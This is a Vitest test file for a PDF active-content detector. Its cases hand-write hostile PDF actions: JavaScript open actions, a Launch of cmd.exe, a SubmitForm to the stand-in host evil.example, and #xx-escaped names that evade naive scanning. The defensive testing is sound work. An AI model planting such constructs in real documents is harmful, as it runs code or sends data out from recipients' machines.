import { describe, expect, it } from "vitest";
import { PDFDocument, PDFName, PDFString, StandardFonts } from "pdf-lib";
import { pdfActiveContent } from "@/lib/server/dossier/pdf-active-content";

const raw = (text: string) => new TextEncoder().encode(text);

/** A hand-written PDF whose catalogue carries `extra`, as an attacker types it (no cross-reference table needed by readers). */
function handWritten(extra: string, more = ""): Uint8Array {
  return raw(
    `%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R ${extra} >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n${more}trailer\n<< /Root 1 0 R >>\n%%EOF\n`,
  );
}

async function generated(edit: (pdf: PDFDocument) => void): Promise<Uint8Array> {
  const pdf = await PDFDocument.create();
  const page = pdf.addPage();
  page.drawText("Relevé de notes", { font: await pdf.embedFont(StandardFonts.Helvetica), x: 50, y: 700 });
  edit(pdf);
  // Object streams: the objects are compressed, so their names never appear in the file's bytes.
  return pdf.save({ useObjectStreams: true });
}

describe("active content in a PDF", () => {
  it.each([
    ["a JavaScript open action", "/OpenAction << /S /JavaScript /JS (app.alert(1)) >>", "JavaScript"],
    ["a JavaScript name tree", "/Names << /JavaScript << /Names [(a) 3 0 R] >> >>", "JavaScript"],
    ["a name spelt with #xx escapes", "/OpenAction 3 0 R", "JavaScript", "3 0 obj\n<< /S /J#61vaScript /Foo (app.alert(1)) >>\nendobj\n"],
    ["escaped embedded files", "/Names << /Embedded#46iles << /Names [] >> >>", "EmbeddedFiles"],
    ["a launch action", "/OpenAction << /S /Launch /F (cmd.exe) >>", "Launch"],
    ["a form submission", "/OpenAction << /S /SubmitForm /F (https://evil.example) >>", "SubmitForm"],
    ["a remote go-to", "/OpenAction << /S /GoToR /F (other.pdf) /D [0 /Fit] >>", "GoToR"],
    ["data import", "/OpenAction << /S /ImportData /F (data.fdf) >>", "ImportData"],
    ["additional actions", "/AA << /O << /S /GoTo /D [0 /Fit] >> >>", "AA"],
    ["an XFA form", "/AcroForm << /Fields [] /XFA 5 0 R >>", "XFA"],
    ["rich media", "/Names << /RichMedia [] >>", "RichMedia"],
  ])("finds %s", async (_label, extra, expected, more = "") => {
    expect(await pdfActiveContent(handWritten(extra, more))).toBe(expected);
  });

  it("finds JavaScript inside a compressed object stream", async () => {
    const bytes = await generated((pdf) => {
      pdf.catalog.set(PDFName.of("OpenAction"), pdf.context.obj({ S: "JavaScript", JS: PDFString.of("app.alert(1)") }));
    });
    expect(new TextDecoder("latin1").decode(bytes)).not.toContain("JavaScript");
    expect(await pdfActiveContent(bytes)).toBe("JavaScript");
  });

  it("accepts ordinary documents: text, a page destination as open action, look-alike names", async () => {
    expect(await pdfActiveContent(await generated(() => undefined))).toBeNull();
    expect(await pdfActiveContent(handWritten("/OpenAction [2 0 R /Fit] /JSFoo 1 /Names << /Dests 4 0 R >>"))).toBeNull();
  });

  it("calls a file that is not a PDF at all unreadable", async () => {
    expect(await pdfActiveContent(raw("%PDF-1.4 garbage"))).toBe("unreadable");
  });
});
